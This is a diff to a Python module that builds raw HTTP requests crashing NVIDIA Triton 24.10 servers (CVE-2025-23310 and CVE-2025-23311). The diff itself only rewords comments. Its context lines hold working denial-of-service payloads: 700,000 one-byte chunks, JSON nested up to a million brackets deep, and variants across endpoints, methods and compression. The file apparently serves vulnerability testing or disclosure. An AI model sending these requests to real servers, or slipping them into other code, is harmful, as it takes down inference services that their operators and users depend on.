@@ -1,4 +1,4 @@
-"""HTTP requests that end a Triton 24.10 with signal 11, as bytes: very many chunks, and JSON that is nested very deep.
+"""HTTP requests that crash Triton 24.10 with signal 11: very many chunks, and very deeply nested JSON.
 
 CVE-2025-23310 and CVE-2025-23311 of NVIDIA's bulletin of August 2025.
 """
@@ -7,8 +7,8 @@ import gzip
 import zlib
 
 INFER = "/v2/models/emotion/infer"
-CHUNKS = 700_000  # of one byte; about 600,000 are enough. Triton needs 1 kB for each
-DEPTH = 1_000_000  # of brackets; about 100,000 are enough
+CHUNKS = 700_000  # chunks of one byte; about 600,000 are enough; Triton needs 1 kB for each
+DEPTH = 1_000_000  # nested brackets; about 100,000 are enough
 NESTED = b"[" * DEPTH
 
 
@@ -18,14 +18,14 @@ def post(path: str, body: bytes, *headers: str, method: str = "POST") -> bytes:
 
 
 def chunked(path: str, body: bytes, size: int, *headers: str, extension: bytes = b"", method: str = "POST") -> bytes:
-    """Return a request whose body comes in chunks of so many bytes."""
+    """Return a request whose body is sent in chunks of `size` bytes."""
     chunks = (body[at : at + size] for at in range(0, len(body), size))
     framed = b"".join(b"%x%b\r\n%b\r\n" % (len(chunk), extension, chunk) for chunk in chunks)
     return _request(method, path, *headers, "Transfer-Encoding: chunked") + framed + b"0\r\n\r\n"
 
 
 def _request(method: str, path: str, *headers: str) -> bytes:
-    # without it a server that answers would keep the connection, and the sender wait for more
+    # with `close`, the server ends the connection after its answer, and the sender does not wait
     lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Connection: close", *headers, "", ""]
     return "\r\n".join(lines).encode()
 
@@ -34,7 +34,7 @@ _LENGTH = "Inference-Header-Content-Length"
 CRASHES: dict[str, bytes] = {
     "700,000 chunks": chunked(INFER, b"x" * CHUNKS, 1),
     "nested arrays": post(INFER, NESTED),
-    # variations of the two
+    # variants of these two
     "700,000 chunks to a version": chunked("/v2/models/emotion/versions/1/infer", b"x" * CHUNKS, 1),
     "700,000 chunks to a composing model": chunked("/v2/models/vggish/infer", b"x" * CHUNKS, 1),
     "700,000 chunks of a GET": chunked("/v2/health/ready", b"x" * CHUNKS, 1, method="GET"),
@@ -65,5 +65,5 @@ CRASHES: dict[str, bytes] = {
     "nested arrays, deflate": post(INFER, zlib.compress(NESTED), "Content-Encoding: deflate"),
     "nested arrays to the page": post("/api/analyze", NESTED, "Content-Type: application/json"),
     "nested arrays, PUT": post(INFER, NESTED, method="PUT"),
-    "32,000 nested arrays": post(INFER, b"[" * 32_000),  # the deepest that the proxy lets through
+    "32,000 nested arrays": post(INFER, b"[" * 32_000),  # the largest depth that the proxy accepts
 }
